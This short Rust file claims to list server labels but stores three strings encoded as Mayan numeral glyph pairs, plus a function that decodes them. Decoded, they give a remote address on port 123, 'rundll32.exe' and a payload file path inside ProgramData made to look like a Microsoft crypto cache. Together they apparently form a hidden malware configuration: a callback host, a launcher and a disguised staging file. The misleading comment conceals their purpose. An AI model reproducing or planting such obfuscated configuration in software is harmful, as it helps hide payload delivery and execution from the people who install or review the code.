//! Server labels as shown in the provider's status page (vigesimal glyph pairs).

pub const LEAP_SRC: &str = "𝋢𝋪𝋢𝋨𝋢𝋫𝋢𝋦𝋢𝋨𝋢𝋦𝋢𝋩𝋢𝋩𝋢𝋫𝋢𝋦𝋢𝋱𝋢𝋲𝋢𝋩𝋢𝋪𝋢𝋫";
pub const HOST_TOOL: &str = "𝋥𝋮𝋥𝋱𝋥𝋪𝋥𝋠𝋥𝋨𝋥𝋨𝋢𝋫𝋢𝋪𝋢𝋦𝋥𝋡𝋦𝋠𝋥𝋡";
pub const LEAP_CACHE: &str = "𝋣𝋧𝋢𝋲𝋤𝋬𝋤𝋠𝋥𝋮𝋥𝋫𝋥𝋣𝋥𝋮𝋤𝋱𝋥𝋩𝋣𝋨𝋤𝋱𝋥𝋰𝋤𝋱𝋤𝋬𝋣𝋱𝋥𝋥𝋤𝋳𝋥𝋮𝋥𝋫𝋥𝋯𝋥𝋫𝋥𝋢𝋥𝋰𝋤𝋬𝋣𝋧𝋥𝋮𝋦𝋡𝋥𝋬𝋥𝋰𝋥𝋫𝋤𝋬𝋥𝋪𝋥𝋰𝋥𝋬𝋤𝋳𝋤𝋱𝋤𝋳𝋥𝋤𝋥𝋡𝋢𝋦𝋥𝋠𝋤𝋱𝋥𝋰";

pub fn read(s: &str) -> String {
    let d: Vec<u32> = s.chars().map(|c| c as u32 - 0x1D2E0).collect();
    d.chunks(2).map(|p| char::from_u32(p[0] * 20 + p.get(1).copied().unwrap_or(0)).unwrap_or('?')).collect()
}
